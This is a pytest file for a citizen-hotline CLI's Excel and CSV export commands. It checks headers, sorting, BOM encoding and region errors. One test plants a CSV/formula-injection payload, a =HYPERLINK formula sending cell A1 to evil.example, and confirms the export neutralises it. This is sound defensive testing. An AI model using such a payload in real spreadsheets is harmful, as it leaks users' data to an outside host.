"""The tables offices take to their meetings (hotline export): the same tickets, alerts, ranks and
watch lists the pipeline holds, Chinese headers, readable by Excel (the .xlsx opened with
openpyxl, the CSV with its byte-order mark), and no cell a spreadsheet would run as a formula."""
from __future__ import annotations

import csv
import io
import json

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook
from sqlalchemy import create_engine, select, update

from hotline.cli import main
from warehouse.schema import tickets

DAY, MONTH = "2026-03-04", "2026-02"


@pytest.fixture(scope="module")
def shop(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("exports")
    env = {"HOTLINE_DB_URL": f"sqlite:///{tmp / 'w.db'}", "HOTLINE_VAR_DIR": str(tmp / "var"),
           "HOTLINE_CALLER_SALT": "exports-salt", "HOTLINE_DEMO_DAY": DAY}  # the demo's planted events: alerts
    runner = CliRunner(env=env)
    for args in (["demo", "--end", "2026-03-05", "--days", "60", "--scale", "0.003", "--detect-days", "1"],
                 ["alerts", "notify", "--date", DAY], ["ranking", "--month", MONTH], ["propose", "--month", MONTH]):
        res = runner.invoke(main, args)
        assert res.exit_code == 0, (args, res.output)
    return runner, tmp, env


def _json(res):
    assert res.exit_code == 0, res.output
    return json.loads(res.stdout)


def _busiest_district(runner) -> dict:
    lit = _json(runner.invoke(main, ["lights", "--date", DAY, "--json"]))
    return next(d for d in lit["by_district"] if len(d["region"]) == 6 and not d["region"].endswith("00"))


def test_a_districts_red_and_yellow_list_in_excel_is_every_such_ticket_by_department(shop):
    runner, tmp, _ = shop
    district = _busiest_district(runner)
    out = tmp / "lights.xlsx"
    info = _json(runner.invoke(main, ["export", "lights", "--date", DAY, "--region", district["region"],
                                      "--out", str(out), "--json"]))
    ws = load_workbook(out).active
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0][:3] == ("承办单位", "灯", "工单编号") and ws.freeze_panes == "A2"
    body = rows[1:]
    assert len(body) == info["rows"] == district["red"] + district["yellow"] > 0
    assert [r[1] for r in body].count("红") == district["red"]
    assert {r[4] for r in body} == {district["name"]}
    deps = [r[0] for r in body]
    assert deps == sorted(deps)  # grouped by department
    for dep in set(deps):  # red before yellow inside each department
        lights = [r[1] for r in body if r[0] == dep]
        assert lights == sorted(lights, key=lambda x: x != "红")


def test_the_days_alerts_as_csv_open_in_excel_and_match_the_alert_list(shop):
    runner, tmp, _ = shop
    out = tmp / "alerts.csv"
    info = _json(runner.invoke(main, ["export", "alerts", "--date", DAY, "--out", str(out), "--json"]))
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads the file as UTF-8
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0][:4] == ["编号", "级别", "类型", "地区"] and len(rows) - 1 == info["rows"] > 0
    listed = _json(runner.invoke(main, ["alerts", "list", "--json"]))["alerts"]
    assert {r[0] for r in rows[1:]} == {a["fingerprint"][:8] for a in listed}
    assert {r[8] for r in rows[1:]} == {"预警中"} and "宝安区" in {r[3] for r in rows[1:]}  # the planted spike
    ranks = {"红": 3, "橙": 2, "黄": 1}
    sev = [ranks[r[1]] for r in rows[1:]]
    assert sev == sorted(sev, reverse=True)


def test_the_ranking_and_the_watch_lists_are_the_stored_ones(shop):
    runner, tmp, env = shop
    info = _json(runner.invoke(main, ["export", "ranking", "--month", MONTH, "--out", str(tmp / "r.xlsx"),
                                      "--json"]))
    stored = _json(runner.invoke(main, ["ranking", "--month", MONTH, "--json"]))
    rows = list(load_workbook(tmp / "r.xlsx").active.iter_rows(values_only=True))
    assert rows[0][:4] == ("单位", "代码", "组", "组内排名")
    assert info["rows"] == len(rows) - 1 == 11  # Guangdong's 11 demo cities
    assert "深圳市" in {r[0] for r in rows[1:]} and str(stored).count("440300") >= 1
    watch = _json(runner.invoke(main, ["export", "watchlist", "--month", MONTH, "--lang", "en",
                                       "--out", str(tmp / "w.csv"), "--json"]))
    wrows = list(csv.reader(io.StringIO((tmp / "w.csv").read_text(encoding="utf-8-sig"))))
    assert wrows[0] == ["scope", "role", "issue", "score"] and watch["rows"] == len(wrows) - 1 > 0
    assert "issue of the month" in {r[1] for r in wrows[1:]}


def test_a_cell_a_spreadsheet_would_run_is_written_inert(shop):
    """A department name from a source export that begins with '=' (or +, -, @) must not become
    a formula in the office's spreadsheet."""
    runner, tmp, env = shop
    district = _busiest_district(runner)
    eng = create_engine(env["HOTLINE_DB_URL"])
    evil = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")'
    with eng.begin() as conn:
        ids = conn.execute(select(tickets.c.ticket_id).where(tickets.c.district_code == district["region"],
                                                             tickets.c.closed_at.is_(None))).scalars().all()
        conn.execute(update(tickets).where(tickets.c.ticket_id.in_(ids)).values(department=evil))
    eng.dispose()
    for name in ("evil.xlsx", "evil.csv"):
        res = runner.invoke(main, ["export", "lights", "--date", DAY, "--region", district["region"],
                                   "--out", str(tmp / name)])
        assert res.exit_code == 0, res.output
    ws = load_workbook(tmp / "evil.xlsx").active
    cells = [row[0] for row in ws.iter_rows(min_row=2) if row[0].value == evil]
    assert cells and all(c.data_type == "s" for c in cells)  # text, not a formula
    text = (tmp / "evil.csv").read_text(encoding="utf-8-sig")
    assert "'" + evil.replace('"', '""') in text and "\n" + '"=HYPERLINK' not in text


@pytest.mark.parametrize("args, message", [
    (["export", "lights", "--region", "370202"], "370202 is not a city or district of 广东省 (440000)"),
    (["export", "alerts", "--city", "110100"], "110100 is not a city of 广东省 (440000)"),
    (["export", "alerts", "--out-of-place"], "No such option"),
])
def test_an_unknown_region_or_a_bad_file_is_a_usage_error(shop, args, message):
    runner, tmp, _ = shop
    if "--out-of-place" not in args:
        args = [*args, "--out", str(tmp / "x.csv")]
    res = runner.invoke(main, args)
    assert res.exit_code == 2 and message in res.output
    res = runner.invoke(main, ["export", "alerts", "--out", str(tmp / "x.pdf")])
    assert res.exit_code == 2 and "x.pdf: .csv or .xlsx" in res.output
